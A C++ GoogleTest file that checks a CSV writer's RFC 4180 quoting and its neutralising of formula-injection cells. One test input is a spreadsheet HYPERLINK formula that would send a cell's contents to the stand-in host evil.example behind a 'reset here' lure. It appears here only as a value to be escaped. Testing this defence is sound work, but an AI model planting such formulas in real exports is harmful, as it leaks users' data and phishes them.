// io/Csv: RFC 4180 quoting, and cells a spreadsheet would run as formulas written as text.
#include <gtest/gtest.h>

#include "io/Csv.h"

namespace mm {
namespace {

std::string cell(std::string_view s) {
  std::string out;
  append_csv_cell(out, s);
  return out;
}

TEST(Csv, PlainCellsAreWrittenAsTheyAre) {
  EXPECT_EQ(cell("alice"), "alice");
  EXPECT_EQ(cell("alice@example.com"), "alice@example.com");
  EXPECT_EQ(cell(""), "");
  EXPECT_EQ(cell("日本語"), "日本語");
  EXPECT_EQ(cell("a=b+c-d@e"), "a=b+c-d@e") << "only the first character makes a formula";
}

TEST(Csv, SeparatorsQuotesAndLineBreaksAreQuoted) {
  EXPECT_EQ(cell("a,b"), "\"a,b\"");
  EXPECT_EQ(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(cell("cr\rhere"), "\"cr\rhere\"");
}

TEST(Csv, FormulaCellsAreNeutralised) {
  EXPECT_EQ(cell("=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"reset here\"\")\"");
  EXPECT_EQ(cell("+1"), "\"'+1\"");
  EXPECT_EQ(cell("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(cell("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(cell("\r=1"), "\"'\r=1\"");
}

}  // namespace
}  // namespace mm
